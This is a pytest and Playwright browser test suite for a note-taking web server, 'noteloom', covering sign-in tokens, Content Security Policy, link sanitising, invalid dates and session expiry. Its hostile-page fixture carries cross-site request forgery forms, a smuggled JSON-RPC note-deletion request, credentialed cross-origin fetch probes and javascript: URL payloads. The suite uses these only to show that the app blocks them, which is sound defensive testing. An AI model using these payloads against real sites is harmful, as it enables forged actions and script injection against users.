"""The pages in a real Chromium against a live ``noteloom serve``: signing in leaves no token
in the URL and no credential anywhere another local server can reach (a second server on
another port of the same host records what the browser sends it and tries every forgery
it can); no CSP violation on any page; unsafe links never become links; dates out of
range and attachments render; a 401 leads to the sign-in form."""

from __future__ import annotations

import json
import re
import threading
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from struct import pack
from typing import Any

import httpx2 as httpx
import pytest
from page_support import Live
from playwright.sync_api import expect

from noteloom import db
from noteloom.app import open_app
from noteloom.config import load_settings

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
FAR_FUTURE_MS = 253402300800000  # 10000-01-01: stored by an old import, out of any date type's range
REPORT_TIMEOUT = 30.0
TITLE = "#note-pane .ne-title"  # the note editor's title field
INFO = "#note-pane .ne-info"  # its line of dates and the source link
PREVIEW = "#note-pane .ne-preview"


def _png_1x1() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    raw = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


@dataclass
class Seeded:
    secret: str  # the note another server must not read or change
    revision: str
    evil_source: str
    good_source: str
    future: str
    attachment: str
    picture: str


@pytest.fixture(scope="module")
def seeded(live: Live) -> Seeded:
    """Notes written into the served workspace beside the running server (SQLite: the
    server sees them at once)."""
    app = open_app(load_settings({"NOTELOOM_HOME": str(live.home)}), load_entry_points=False)
    try:
        ws = app.workspace
        secret = ws.create_note("Bank codes", "PIN 1234")
        ws.update_note(secret.id, body="PIN 5678")
        revision = ws.list_revisions(secret.id)[0].id
        evil = ws.create_note("Clipped evil", "[x](javascript:alert(1)) <a href=\"JaVaScRiPt:alert(2)\">y</a> "
                                              "<a href=\" javascript:alert(3)\">z</a> [d](data:text/html,hi)",
                              source_url=" JavaScript:alert(document.domain)")
        good = ws.create_note("Clipped good", "text", source_url="https://example.com/article")
        future = ws.create_note("Far future", "when?", is_todo=True)
        with ws.write() as conn:
            conn.execute(db.notes.update().where(db.notes.c.id == future.id)
                         .values(updated_time=FAR_FUTURE_MS, todo_due=FAR_FUTURE_MS * 10))
        holder = ws.create_note("Picture", "")
        att = ws.add_attachment(holder.id, _png_1x1(), "dot.png")
        ws.update_note(holder.id, body=f"A dot: ![dot](:/{att.id})")
        return Seeded(secret.id, revision, evil.id, good.id, future.id, att.id, holder.id)
    finally:
        app.close()


@dataclass
class Attacker:
    """What the other server on the same host saw: every request's path and Cookie header,
    and the page's own report of what it tried."""

    url: str
    seen: list[tuple[str, str | None]] = field(default_factory=list)
    report: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)


ATTACK_PAGE = """<!doctype html><meta charset="utf-8"><title>innocent</title>
<iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe><iframe name="f4"></iframe>
<form id="restore" method="POST" target="f1" action="{N}/api/v1/notes/{ID}/revisions/{REV}/restore"></form>
<form id="create" method="POST" target="f2" action="{N}/api/v1/notes"><input name="title" value="forged"></form>
<form id="mcp" method="POST" target="f3" enctype="text/plain" action="{N}/mcp"><input
  name='{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"delete_note","arguments":{{"id":"{ID}"}}}},"x":"'
  value='"}}'></form>
<form id="signin" method="POST" target="f4" action="{N}/api/v1/auth/sign-in"><input name="token" value="guess"></form>
<script>
const N = "{N}", ID = "{ID}", REV = "{REV}", ATT = "{ATT}";
const out = {{}};
const loaded = (el) => new Promise((r) => {{ el.onload = () => r("load"); el.onerror = () => r("error"); }});
async function main() {{
  for (const name of ["restore", "create", "mcp", "signin"]) {{
    const frame = document.querySelector(`iframe[name=${{document.getElementById(name).target}}]`);
    const done = new Promise((r) => frame.addEventListener("load", r, {{ once: true }}));
    document.getElementById(name).submit();
    await done;
    out["form " + name] = "submitted";
  }}
  const img = new Image(); const imgDone = loaded(img); img.src = `${{N}}/attachments/${{ATT}}`;
  out["img attachment"] = await imgDone;
  const script = document.createElement("script"); const scriptDone = loaded(script);
  script.src = `${{N}}/api/v1/notes`; document.head.append(script);
  out["script notes"] = await scriptDone;
  const tries = [
    ["GET", "/api/v1/notes"], ["GET", `/api/v1/notes/${{ID}}`], ["GET", `/api/v1/notes/${{ID}}/rendered`],
    ["GET", "/api/v1/notebooks"], ["GET", "/api/v1/chat/conversations"], ["GET", `/attachments/${{ATT}}`],
    ["GET", "/api/v1/openapi.json"], ["POST", `/api/v1/notes/${{ID}}/revisions/${{REV}}/restore`],
    ["PATCH", `/api/v1/notes/${{ID}}`, {{ body: "forged" }}], ["DELETE", `/api/v1/chat/conversations/${{ID}}`],
    ["POST", "/api/v1/auth/sign-out"],
  ];
  for (const [method, path, body] of tries) {{
    for (const mode of ["cors", "no-cors"]) {{
      if (mode === "no-cors" && !["GET", "POST"].includes(method)) continue;
      const init = {{ method, mode, credentials: "include" }};
      if (body) {{ init.body = JSON.stringify(body); init.headers = {{ "Content-Type": "application/json" }}; }}
      try {{
        const r = await fetch(N + path, init);
        out[`${{mode}} ${{method}} ${{path}}`] = r.type === "opaque" ? "opaque" : await r.text();
      }} catch (e) {{
        out[`${{mode}} ${{method}} ${{path}}`] = "blocked";
      }}
    }}
  }}
  await fetch("/report", {{ method: "POST", body: JSON.stringify(out) }});
  document.title = "done";
}}
main();
</script>"""


@pytest.fixture
def attacker(live: Live, seeded: Seeded) -> Iterator[Attacker]:
    """A second web server on 127.0.0.1 (the host noteloom is reached by), another port."""
    state = Attacker(url="")
    page = ATTACK_PAGE.format(N=live.url, ID=seeded.secret, REV=seeded.revision, ATT=seeded.attachment)

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def _record(self) -> None:
            state.seen.append((self.path, self.headers.get("Cookie")))

        def do_GET(self) -> None:
            self._record()
            body = page.encode() if self.path == "/attack" else b""
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self._record()
            data = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            if self.path == "/report":
                state.report.update(json.loads(data))
                state.reported.set()
            self.send_response(204)
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def context(browser: Any) -> Iterator[Any]:
    ctx = browser.new_context(viewport={"width": 1200, "height": 800})
    # Installed before any page script runs, and not subject to the page's CSP.
    ctx.add_init_script("""document.addEventListener("securitypolicyviolation",
        (e) => (window.__csp = window.__csp || []).push(`${e.violatedDirective} ${e.blockedURI}`));""")
    try:
        yield ctx
    finally:
        ctx.close()


def watched(ctx: Any) -> tuple[Any, list[str]]:
    """A new page and the list its script errors and console errors go to."""
    pg = ctx.new_page()
    pg.set_default_timeout(10_000)
    problems: list[str] = []
    pg.on("pageerror", lambda e: problems.append(f"script error: {e}"))
    pg.on("console", lambda m: problems.append(f"console {m.type}: {m.text}") if m.type == "error" else None)
    pg.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    return pg, problems


def signed_in(ctx: Any, live: Live, path: str = "/") -> tuple[Any, list[str]]:
    pg, problems = watched(ctx)
    pg.goto(live.page_url(path))
    expect(pg.locator("#sign-out")).to_be_visible()
    return pg, problems


def read(live: Live, note_id: str) -> dict[str, Any]:
    note: dict[str, Any] = live.api("GET", f"/api/v1/notes/{note_id}")
    return note


def test_another_server_on_the_host_gets_no_credential_and_can_change_nothing(
    context: Any, live: Live, seeded: Seeded, attacker: Attacker
) -> None:
    before = read(live, seeded.secret)
    count_before = len(live.api("GET", "/api/v1/notes?limit=500")["notes"])
    pg, problems = signed_in(context, live)
    expect(pg.locator("#notes")).to_contain_text("Bank codes")
    # the token left the address bar and the history entry; the session is not the token
    assert "token" not in pg.url and live.token not in pg.evaluate("location.href")
    session = pg.evaluate("sessionStorage.getItem('noteloom.session')")
    assert session.startswith("nls_") and live.token not in session
    assert context.cookies() == []  # noteloom set no cookie at all

    evil, _ = watched(context)
    to_noteloom: list[tuple[str, int]] = []
    evil.on("response", lambda r: to_noteloom.append((r.url, r.status)) if r.url.startswith(live.url) else None)
    evil.goto(attacker.url + "/attack")
    # (waiting through Playwright lets its events, the responses above, reach this thread)
    expect(evil).to_have_title("done", timeout=REPORT_TIMEOUT * 1000)
    assert attacker.reported.is_set()

    # the browser sent the other server no cookie, so no credential
    assert attacker.seen and all(cookie is None for _, cookie in attacker.seen), attacker.seen
    # every request the other page made to noteloom was refused
    assert len(to_noteloom) >= 10, to_noteloom
    sign_in = [status for url, status in to_noteloom if url.endswith("/api/v1/auth/sign-in")]
    assert sign_in == [422]  # the one public route: a form post is not the JSON it takes
    assert all(status == 401 for url, status in to_noteloom if not url.endswith("/sign-in")), to_noteloom
    report = attacker.report
    assert report["img attachment"] == "error" and report["script notes"] == "error"
    readable = {k: v for k, v in report.items() if k.startswith("cors ") and v != "blocked"}
    assert not readable, readable  # no cross-origin read succeeded
    # whatever the browser sent it, replayed against noteloom, opens nothing
    replay = {"Cookie": "; ".join(c for _, c in attacker.seen if c)} if any(c for _, c in attacker.seen) else {}
    for path in ("/api/v1/notes", f"/api/v1/notes/{seeded.secret}", f"/attachments/{seeded.attachment}"):
        assert httpx.get(live.url + path, headers=replay, timeout=10).status_code == 401
    # nothing changed: not restored, not trashed, nothing created; the session still works
    assert read(live, seeded.secret) == before
    assert len(live.api("GET", "/api/v1/notes?limit=500")["notes"]) == count_before
    pg.reload()
    expect(pg.locator("#notes")).to_contain_text("Bank codes")
    assert not problems, problems


@pytest.mark.parametrize("path", ["/", "note", "/chat", "/api/docs"])
def test_no_page_breaks_its_content_security_policy(context: Any, live: Live, seeded: Seeded, path: str) -> None:
    pg, problems = watched(context)
    target = f"/notes/{seeded.picture}" if path == "note" else path
    response = pg.goto(live.page_url(target))
    assert response is not None
    headers = response.headers
    assert "script-src 'self'" in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer" and headers["x-content-type-options"] == "nosniff"
    expect(pg.locator("#sign-out")).to_be_visible()
    if path == "/":
        expect(pg.locator("#notes")).to_contain_text("Bank codes")
    elif path == "note":
        expect(pg.locator(TITLE)).to_have_value("Picture")
        pg.click("#note-pane .ne-preview-toggle")
        img = pg.locator(f"{PREVIEW} img")
        expect(img).to_have_attribute("src", re.compile(r"^blob:"))
        pg.wait_for_function(f"document.querySelector('{PREVIEW} img').naturalWidth === 1")
    elif path == "/chat":
        expect(pg.locator("#note-list")).to_contain_text("Bank codes")
    else:
        expect(pg.locator(".swagger-ui .info .title")).to_contain_text("noteloom")
        expect(pg.locator(".swagger-ui .opblock").first).to_be_visible()
    assert pg.evaluate("window.__csp || []") == []
    assert not problems, problems


def test_unsafe_urls_never_become_links_and_safe_ones_do(context: Any, live: Live, seeded: Seeded) -> None:
    assert read(live, seeded.evil_source)["source_url"] is None  # withheld by the server
    pg, problems = signed_in(context, live, f"/notes/{seeded.evil_source}")
    expect(pg.locator(TITLE)).to_have_value("Clipped evil")
    expect(pg.locator(INFO)).to_contain_text("Updated ")  # the line a source link would be on
    pg.click("#note-pane .ne-preview-toggle")
    expect(pg.locator(PREVIEW)).to_contain_text("y")
    assert pg.locator("a.source").count() == 0
    protocols = pg.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.protocol)")
    assert protocols and set(protocols) <= {"http:", "https:", "mailto:"}, protocols
    assert read(live, seeded.good_source)["source_url"] == "https://example.com/article"
    pg.goto(f"{live.url}/notes/{seeded.good_source}")
    expect(pg.locator("a.source")).to_have_attribute("href", "https://example.com/article")
    assert not problems, problems


def test_a_date_out_of_range_shows_as_invalid_and_breaks_nothing(context: Any, live: Live, seeded: Seeded) -> None:
    pg, problems = signed_in(context, live, f"/notes/{seeded.future}")
    expect(pg.locator(TITLE)).to_have_value("Far future")
    expect(pg.locator(INFO)).to_contain_text("Updated invalid date")
    expect(pg.locator(INFO)).to_contain_text("due invalid date")
    expect(pg.locator("#note-pane .ne-due")).to_have_value("")  # no date input can hold year 81000
    pg.goto(f"{live.url}/")
    row = pg.locator("#notes li", has_text="Far future")
    expect(row.locator("time")).to_have_text("invalid date")
    expect(row.locator(".todo")).to_have_text("to-do · due invalid date")
    assert not problems, problems


def test_without_a_session_the_page_asks_for_the_token_and_sign_out_ends_it(
    context: Any, live: Live, seeded: Seeded
) -> None:
    pg, _ = watched(context)
    pg.goto(f"{live.url}/notes/{seeded.good_source}")
    expect(pg.locator("#sign-in")).to_be_visible()
    expect(pg.locator(TITLE)).to_be_hidden()
    pg.fill("#sign-in-token", "nl_wrong")
    pg.press("#sign-in-token", "Enter")
    expect(pg.locator("#sign-in-error")).to_contain_text("wrong or revoked")
    pg.fill("#sign-in-token", live.token)
    pg.press("#sign-in-token", "Enter")
    expect(pg.locator(TITLE)).to_have_value("Clipped good")
    session = pg.evaluate("sessionStorage.getItem('noteloom.session')")
    pg.click("#sign-out")
    expect(pg.locator("#sign-in")).to_be_visible()
    expect(pg.locator("#sign-in-error")).to_have_text("Signed out.")
    r = httpx.get(f"{live.url}/api/v1/notes", headers={"X-Noteloom-Session": session}, timeout=10)
    assert r.status_code == 401


def test_a_401_in_the_middle_of_the_chat_leads_to_the_sign_in_form(context: Any, live: Live) -> None:
    pg, _ = signed_in(context, live, "/chat")
    expect(pg.locator("#note-list")).to_contain_text("Bank codes")
    session = pg.evaluate("sessionStorage.getItem('noteloom.session')")
    out = httpx.post(f"{live.url}/api/v1/auth/sign-out", headers={"X-Noteloom-Session": session}, timeout=10)
    assert out.status_code == 204  # ended elsewhere (another tab)
    pg.fill("#note-search", "Bank")
    expect(pg.locator("#sign-in")).to_be_visible()
    expect(pg.locator("#chat-app")).to_be_hidden()
    pg.fill("#sign-in-token", live.token)
    pg.press("#sign-in-token", "Enter")
    expect(pg.locator("#note-list")).to_contain_text("Bank codes")


def test_a_token_in_the_fragment_signs_in_too_and_never_reaches_the_server(
    context: Any, live: Live, seeded: Seeded
) -> None:
    pg, problems = watched(context)
    requested: list[str] = []
    pg.on("request", lambda r: requested.append(r.url))
    pg.goto(f"{live.url}/notes/{seeded.good_source}#token={live.token}")
    expect(pg.locator(TITLE)).to_have_value("Clipped good")
    assert live.token not in pg.url
    assert not [u for u in requested if live.token in u]  # a fragment is never sent
    assert not problems, problems
